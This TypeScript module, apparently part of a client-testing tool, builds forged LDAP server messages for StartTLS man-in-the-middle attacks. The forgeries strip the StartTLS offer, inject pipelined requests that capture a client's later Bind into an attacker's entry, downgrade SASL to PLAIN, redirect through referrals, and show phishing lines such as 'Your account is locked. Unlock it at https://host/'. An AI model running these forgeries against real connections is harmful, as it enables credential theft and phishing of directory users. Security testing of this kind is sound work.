/** The lies that plaintext LDAP makes possible about StartTLS: the root DSE is read before anybody is authenticated (RFC 4513 section 3.1.5). */
import { concat, empty, fromText, toText } from '../../bytes/hex';
import type { Forgery } from '../dialect';

import { rootAttributes } from './client';
import { userName } from './directory';
import { offersStartTls } from './listener';
import {
  addValueRequest,
  bindRequest,
  messageIdOf,
  oids,
  parseMessage,
  referralTo,
  response,
  responseTags,
  searchRequest,
  searchResultEntry,
  type Attribute,
} from './message';
import { resultCodes } from './result-codes';

/**
 * Two lies are left out. A login before StartTLS gains nothing, whatever the server does with it: the client binds for itself
 * inside TLS, and what an earlier Bind authenticated counts no more (RFC 4511 section 4.2.1). And there is no greeting to tell lies in.
 */
export const forgery: Forgery = {
  withoutOffer: (bytes) =>
    inOffer(bytes, (attributes) =>
      attributes
        .map(({ type, values }) => ({ type, values: values.filter((value) => value !== oids.startTls) }))
        .filter(({ values }) => values.length > 0),
    ),
  maskedOffer: (bytes) => fromText(toText(bytes).replaceAll(oids.startTls, 'X'.repeat(oids.startTls.length))),
  refusal: (request, permanence) => {
    const id = idOf(request);
    return permanence === 'temporary'
      ? response(id, responseTags.extended, resultCodes.unavailable, 'Could not initialize TLS')
      : response(id, responseTags.extended, resultCodes.protocolError, 'unsupported extended operation');
  },
  lies: {
    // The client's next two requests are answered by these, number for number; its own become a value in the attacker's entry.
    commands: (request, { account, task }) => {
      const id = idOf(request);
      const own = userName(account.user, task.domain);
      const theirs = [
        searchRequest(id + 1, '', rootAttributes),
        bindRequest(id + 2, userName(task.userName, task.domain), 'x'.repeat(task.passwordLength)),
      ];
      const swallowed = concat(empty, ...theirs).length;
      const note = addValueRequest(id + 100, own, 'description', new Uint8Array(swallowed));
      return concat(
        request,
        searchRequest(id + 1, '', rootAttributes),
        bindRequest(id + 2, own, account.password),
        note.subarray(0, note.length - swallowed),
      );
    },
    responses: (goAhead, { host, task }) => {
      const id = idOf(goAhead);
      const self = userName(task.userName, task.domain);
      const forged = [{ type: 'cn', values: [`Confirm your password at https://${host}/`] }];
      return concat(
        goAhead,
        searchResultEntry(id + 1, '', [{ type: 'supportedLDAPVersion', values: ['3'] }]),
        success(id + 1, responseTags.search),
        success(id + 2, responseTags.bind),
        searchResultEntry(id + 3, self, forged),
        success(id + 3, responseTags.search),
      );
    },
    capabilities: (offer) =>
      inOffer(offer, (attributes) => [
        ...attributes.filter(({ type }) => type !== 'supportedSASLMechanisms'),
        { type: 'supportedSASLMechanisms', values: ['PLAIN'] },
      ]),
    referral: (answer, { host }) => referralTo(idOf(answer), responseTags.search, `ldap://${host}/`),
    alert: (goAhead, { host }) =>
      response(
        idOf(goAhead),
        responseTags.extended,
        resultCodes.success,
        `Your account is locked. Unlock it at https://${host}/`,
      ),
    'no-capabilities': (question) =>
      response(idOf(question), responseTags.search, resultCodes.insufficientAccessRights),
    'no-answer': (request) => success(idOf(request), responseTags.search),
    'early-answer': (offer) =>
      concat(
        offer,
        success(idOf(offer), responseTags.search),
        success(idOf(offer) + 1, responseTags.extended),
      ),
  },
};

const idOf = (bytes: Uint8Array): number => messageIdOf(bytes) ?? 0;

const success = (id: number, tag: number): Uint8Array => response(id, tag, resultCodes.success);

/** Changes only a root DSE that offers StartTLS. */
function inOffer(
  bytes: Uint8Array,
  change: (attributes: readonly Attribute[]) => readonly Attribute[],
): Uint8Array {
  const message = parseMessage(bytes);
  return message?.operation.kind === 'entry' && offersStartTls(message.operation.attributes)
    ? searchResultEntry(message.id, message.operation.name, change(message.operation.attributes))
    : bytes;
}
